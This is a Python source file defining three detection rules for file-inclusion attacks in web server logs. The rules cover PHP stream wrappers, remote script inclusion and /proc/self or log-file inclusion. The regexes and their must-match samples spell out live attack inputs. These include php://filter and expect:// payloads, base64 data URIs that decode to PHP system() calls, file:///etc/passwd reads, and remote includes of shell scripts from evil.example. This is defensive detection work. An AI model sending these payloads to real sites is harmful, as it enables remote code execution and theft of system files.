"""File inclusion: making the application load a local file or a remote script."""

from __future__ import annotations

from lwsyslog.matching.linear import Regex
from lwsyslog.rules.base import BOTH, PatternRule
from lwsyslog.rules.samples import AccessSample, ErrorSample
from lwsyslog.severity import Severity

__all__ = ["InclusionProcSelf", "InclusionRemoteUrl", "InclusionStreamWrapper"]


class InclusionStreamWrapper(PatternRule):
    """A PHP/Java stream wrapper (``php://filter``, ``expect://``, ``data://``...)."""

    id = "file-inclusion-wrapper"
    categories = ("file-inclusion",)
    severity = Severity.HIGH
    description = "stream wrapper (php://, expect://, data://, phar://, file://) in a parameter"
    logs = BOTH
    fields = ("target", "cookie", "message")
    # As a parameter value (or a PHP function argument in the error log), not inside a path.
    # PHP also takes an RFC 2397 data URI without the slashes (``data:;base64,...``); that one
    # counts when its bytes open PHP code: ``PD9`` is ``<?`` in base64 (seen lower-cased).
    pattern = Regex(
        r"(?:^|[=(?])\s*['\"]?(?:php|expect|phar|zip|data|glob|compress\.(?:zlib|bzip2)|file|jar"
        r"|netdoc|gopher|dict)://"
        r"|(?:^|[=(?])\s*['\"]?data:[^,;/]*(?:/[^,;]*)?(?:;[^,;]*)*;base64,pd9"
    )
    trigger = r"://|data:"
    must_match = (
        AccessSample(target="/index.php?page=php://filter/convert.base64-encode/resource=index"),
        AccessSample(target="/index.php?page=expect%3A%2F%2Fid"),
        AccessSample(
            target="/index.php?p=data://text/plain;base64,PD9waHAgc3lzdGVtKCRfR0VUWzFdKTs/Pg=="
        ),
        AccessSample(target="/fetch?url=file:///etc/passwd"),
        AccessSample(target="/echo?name=data:;base64,PD9waHAgZWNobyAndzRwMXQxJzsgPz4="),
        AccessSample(target="/p?f=data:text/plain;charset=utf-8;base64,PD9waHAgcGhwaW5mbygpOz8%2B"),
    )
    must_not_match = (
        AccessSample(target="/login?next=https://example.com/account"),
        AccessSample(target="/p?img=data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAEAAAAB"),
        AccessSample(target="/search?q=data:;base64,aGVsbG8="),
        AccessSample(target="/downloads/datafile.zip"),
        AccessSample(target="/misc/nmh//%22file://$file/%22"),
    )


class InclusionRemoteUrl(PatternRule):
    """A remote script URL as an include parameter (``?page=http://x/shell.txt?``)."""

    id = "file-inclusion-remote"
    categories = ("file-inclusion",)
    severity = Severity.HIGH
    description = "remote file inclusion: a script/text URL, or a URL ending in '?', as a parameter"
    logs = BOTH
    fields = ("target", "message")
    pattern = Regex(
        r"=\s*(?:https?|ftps?)://[^&\s]+?(?:\.(?:txt|php\d?|phtml|pl|py|sh|jpg|gif|png)\?+"
        r"(?:&|$)|\?+$|\.(?:txt|sh|pl|py)(?:&|$))"
        r"|\b(?:page|file|include|inc|template|tpl|dir|module|mod|path|doc|folder|root|layout|conf"
        r"|lang|view|content|load|show)\w{0,12}=\s*(?:https?|ftps?)://"
        # A Windows UNC path (\\host\share\x.php, read with "/" once decoded) to a script in
        # an include parameter: PHP on Windows includes it over SMB.
        r"|\b(?:page|file|include|inc|template|tpl|module|mod|path|doc|layout|conf|lang|view"
        r"|content|load)\w{0,12}=\s*//[\w.-]+/[^&\s?]*\.(?:php\d?|phtml|inc|txt)(?:$|[&?\s])"
    )
    trigger = r"://|=\s*//"
    must_match = (
        AccessSample(target="/index.php?page=http://203.0.113.50/shell.txt?"),
        AccessSample(target="/index.php?inc=hTTp%3A%2F%2Fevil.example%2Fc99.txt%3F%3F"),
        AccessSample(target="/main.php?template=https://evil.example/x"),
        AccessSample(target="/view.php?page=%5c%5c198.51.100.9%5cshare%5cshell.php"),
        AccessSample(target="/view.php?inc=%5C%5Cevil.example%5Cs%5Cx.txt&a=1"),
    )
    must_not_match = (
        AccessSample(target="/login?next=https://example.com/account&lang=en"),
        AccessSample(target="/share?url=https://news.example.com/story?id=7&ref=tw"),
        AccessSample(target="/login?next=//www.example.com/account"),
        AccessSample(target="/view.php?page=//cdn.example.com/help/index.html"),
    )


_PROC = r"proc/(?:self|\d{1,7}|thread-self)/(?:environ|cmdline|fd/\d|maps|status|cwd|exe|root)"


class InclusionProcSelf(PatternRule):
    """Local inclusion of process or log files used to escalate an LFI (``/proc/self/environ``)."""

    id = "file-inclusion-proc"
    categories = ("file-inclusion",)
    severity = Severity.HIGH
    description = "/proc/self/*, web-server logs or PHP session files as an include target"
    logs = BOTH
    fields = ("query", "cookie", "message")
    # "proc/" after "/" (reported with it), or after what is no part of a name (not reported).
    pattern = Regex(
        rf"/{_PROC}|(?:^|[^\w.-])(?P<frag>{_PROC})"
        r"|/var/log/(?:apache2?|httpd|nginx)/(?:access|error)[._]log"
        r"|(?:/var/lib/php\w*|/tmp)/sess_"
    )
    trigger = r"proc/|/var/log/|sess_"
    gate = "/"
    must_match = (
        AccessSample(target="/index.php?page=../../../../proc/self/environ"),
        AccessSample(target="/index.php?page=/var/log/apache2/access.log&cmd=id"),
        ErrorSample(message="PHP Warning:  include(/proc/self/environ): failed to open stream"),
        AccessSample(target="/index.php?page=proc/self/cmdline"),
    )
    must_not_match = (
        AccessSample(target="/docs/linux/proc-filesystem"),
        AccessSample(target="/blog/reading-var-log-files"),
        AccessSample(target="/docs?topic=linux/myproc/self/environ-notes"),
    )
